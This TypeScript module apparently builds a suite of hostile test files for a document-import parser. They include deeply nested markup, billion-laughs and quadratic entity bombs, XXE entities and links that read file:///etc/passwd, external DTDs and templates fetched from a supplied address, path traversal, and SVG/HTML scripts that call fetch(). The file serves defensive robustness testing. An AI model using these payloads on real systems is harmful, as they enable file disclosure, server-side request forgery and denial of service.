import type { HostileFile } from './hostile-file.ts'
import { utf8 } from './hostile-file.ts'
import { docx, odt, paragraph, pptx, relationshipsPart, shape } from './make-office.ts'

const deep = 20_000
const nest = (open: string, content: string, close: string, times = deep): string => open.repeat(times) + content + close.repeat(times)

const laughs = `<!DOCTYPE x [<!ENTITY a0 "ha">${Array.from({ length: 12 }, (_, index) => `<!ENTITY a${index + 1} "${`&a${index};`.repeat(10)}">`).join('')}]>`
const quadratic = `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100_000)}">]>`
const passwd = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
const remote = (address: string): string => `<!DOCTYPE x SYSTEM "${address}/x.dtd" [<!ENTITY % p SYSTEM "${address}/p.dtd"> %p; <!ENTITY file SYSTEM "${address}/file">]>`

const xmlExport = (body: string, prolog = ''): Buffer => utf8(`<?xml version="1.0" encoding="UTF-8"?>${prolog}<Publication><Agenda><Items>${body}</Items></Agenda></Publication>`)

const styles = (body: string): { name: string; bytes: Buffer } => ({ name: 'word/styles.xml', bytes: utf8(`<?xml version="1.0"?><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:styles>`) })
const numbering = (body: string): { name: string; bytes: Buffer } => ({ name: 'word/numbering.xml', bytes: utf8(`<?xml version="1.0"?><w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${body}</w:numbering>`) })
const documentRelations = relationshipsPart('word/_rels/document.xml.rels', [{ id: 'rS', type: 'styles', target: 'styles.xml' }, { id: 'rN', type: 'numbering', target: 'numbering.xml' }])
const inList = (number: number, level = 0): string => `<w:pPr><w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="${number}"/></w:numPr></w:pPr>`

export const hostileMarkup: readonly HostileFile[] = [
  { name: 'deep-tables.docx', make: () => docx(nest('<w:tbl><w:tr><w:tc>', paragraph('x'), '</w:tc></w:tr></w:tbl>')) },
  { name: 'deep-content-controls.docx', make: () => docx(nest('<w:sdt><w:sdtContent>', paragraph('x'), '</w:sdtContent></w:sdt>')) },
  { name: 'deep-lists.odt', make: () => odt(nest('<text:list><text:list-item>', '<text:p>x</text:p>', '</text:list-item></text:list>')) },
  { name: 'deep-spans.odt', make: () => odt(`<text:p>${nest('<text:span>', 'x', '</text:span>')}</text:p>`) },
  { name: 'deep-groups.pptx', make: () => pptx(nest('<p:grpSp>', shape('x'), '</p:grpSp>')) },
  { name: 'deep-export.xml', make: () => xmlExport(nest('<Item>', 'x', '</Item>')) },
  { name: 'deep-divs.html', make: () => utf8(`<!doctype html><title>x</title>${nest('<div>', 'x', '</div>')}`) },
  { name: 'deep-lists.html', make: () => utf8(`<!doctype html>${nest('<ul><li>', 'x', '</li></ul>')}`) },
  { name: 'never-closed.html', make: () => utf8(`<!doctype html>${'<b><i><p>x'.repeat(deep)}`) },
  { name: 'misplaced-in-tables.html', make: () => utf8(`<!doctype html>${'<table><b><tr><i>x'.repeat(deep)}`) },
  { name: 'a-tag-that-never-ends.html', make: () => utf8(`<!doctype html><p ${'a="b" '.repeat(200_000)}`) },
  { name: 'a-million-entities.html', make: () => utf8(`<!doctype html><p>${'&amp;&notanentity'.repeat(300_000)}`) },
  { name: 'comment-that-never-ends.html', make: () => utf8(`<!doctype html>${'<!--'.repeat(200_000)}`) },
  { name: 'billion-laughs.docx', make: () => docx(paragraph('&a12;'), [], laughs) },
  { name: 'billion-laughs.odt', make: () => odt('<text:p>&a12;</text:p>', laughs) },
  { name: 'billion-laughs.xml', make: () => xmlExport('<Item>&a12;</Item>', laughs) },
  { name: 'quadratic-entities.xml', make: () => xmlExport('&a;'.repeat(100_000), quadratic) },
  { name: 'entity-of-a-file.xml', make: () => xmlExport('<Item>&file;</Item>', passwd) },
  { name: 'entity-of-a-file.docx', make: () => docx(paragraph('&file;'), [], passwd) },
  { name: 'entity-of-a-file.odt', make: () => odt('<text:p>&file;</text:p>', passwd) },
  { name: 'entity-from-the-net.xml', make: (address) => xmlExport('<Item>&file;</Item>', remote(address)) },
  { name: 'entity-from-the-net.docx', make: (address) => docx(paragraph('&file;'), [], remote(address)) },
  { name: 'linked-from-outside.docx', make: linkedDocx, read: true },
  { name: 'linked-from-outside.odt', make: (address) => odt(`<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/><text:p>x</text:p></text:section><text:p><draw:frame><draw:image xlink:href="${address}/x.png"/></draw:frame></text:p>`) },
  { name: 'linked-from-outside.html', make: (address) => utf8(`<!doctype html><base href="${address}"><meta http-equiv="refresh" content="0;url=/x"><link rel="stylesheet" href="/x.css"><script src="/x.js"></script><iframe src="file:///etc/passwd"></iframe><object data="/o"></object><img src="/x.png"><p>Referat`), read: true },
  { name: 'script.svg', make: (address) => utf8(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${address}')"><script>fetch('${address}')</script><text>Referat</text><image href="${address}/x.png"/></svg>`) },
  { name: 'svg-as-a-page.html', make: (address) => utf8(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${address}')</script><foreignObject><p>Referat</p></foreignObject></svg>`) },
  { name: 'style-based-on-itself.docx', make: () => docx(paragraph('x', '<w:pPr><w:pStyle w:val="A"/></w:pPr>'), [documentRelations, styles('<w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style>'), numbering('')]) },
  { name: 'style-chain-of-ten-thousand.docx', make: () => docx(paragraph('x', '<w:pPr><w:pStyle w:val="S0"/></w:pPr>').repeat(200), [documentRelations, styles(Array.from({ length: 10_000 }, (_, index) => `<w:style w:type="paragraph" w:styleId="S${index}"><w:basedOn w:val="S${index + 1}"/></w:style>`).join(''))]) },
  { name: 'roman-number-two-billion.docx', make: () => docx(paragraph('x', inList(1)), [documentRelations, numbering(`<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`)]) },
  { name: 'letter-number-two-billion.docx', make: () => docx(paragraph('x', inList(1)), [documentRelations, numbering(`<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`)]) },
  { name: 'ten-thousand-numberings.docx', make: () => docx(Array.from({ length: 10_000 }, (_, index) => paragraph('x', inList(index + 1, index % 9))).join(''), [documentRelations, numbering(Array.from({ length: 10_000 }, (_, index) => `<w:abstractNum w:abstractNumId="${index + 1}"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl></w:abstractNum><w:num w:numId="${index + 1}"><w:abstractNumId w:val="${index + 1}"/></w:num>`).join(''))]) },
  { name: 'list-level-two-billion.docx', make: () => docx(paragraph('x', inList(1, 2_000_000_000)), [documentRelations, numbering('<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>')]) },
  { name: 'hundred-thousand-cells.docx', make: () => docx(`<w:tbl>${`<w:tr>${`<w:tc>${paragraph('x')}</w:tc>`.repeat(100)}</w:tr>`.repeat(1_000)}</w:tbl>`) },
  { name: 'hundred-thousand-cells.html', make: () => utf8(`<!doctype html><table>${`<tr>${'<td>x</td>'.repeat(100)}</tr>`.repeat(1_000)}</table>`) },
  { name: 'spans-a-billion-cells.html', make: () => utf8(`<!doctype html><table>${'<tr><td colspan="1000000000" rowspan="1000000000">x</td></tr>'.repeat(100)}</table>`) },
  { name: 'repeats-a-billion-cells.odt', make: () => odt('<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>') },
  { name: 'a-billion-blanks.odt', make: () => odt('<text:p>x<text:s text:c="2000000000"/>y</text:p>') },
  { name: 'outline-level-a-million.odt', make: () => odt('<text:h text:outline-level="1000000">x</text:h><text:h text:outline-level="-5">y</text:h>') },
]

function linkedDocx(address: string): Buffer {
  return docx(
    `${paragraph('Referat')}<w:p><w:r><w:drawing><a:blip r:link="rImage"/></w:drawing></w:r></w:p><w:altChunk r:id="rChunk"/><w:p><w:r><w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r></w:p><w:p><w:hyperlink r:id="rLink"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>`,
    [relationshipsPart('word/_rels/document.xml.rels', [
      { id: 'rImage', type: 'image', target: `${address}/x.png`, external: true },
      { id: 'rChunk', type: 'aFChunk', target: 'file:///etc/passwd', external: true },
      { id: 'rLink', type: 'hyperlink', target: `${address}/x`, external: true },
      { id: 'rTemplate', type: 'attachedTemplate', target: `${address}/x.dotm`, external: true },
      { id: 'rStyles', type: 'styles', target: `${address}/styles.xml`, external: true },
      { id: 'rNumbering', type: 'numbering', target: '../../../../etc/passwd' },
    ])],
  )
}
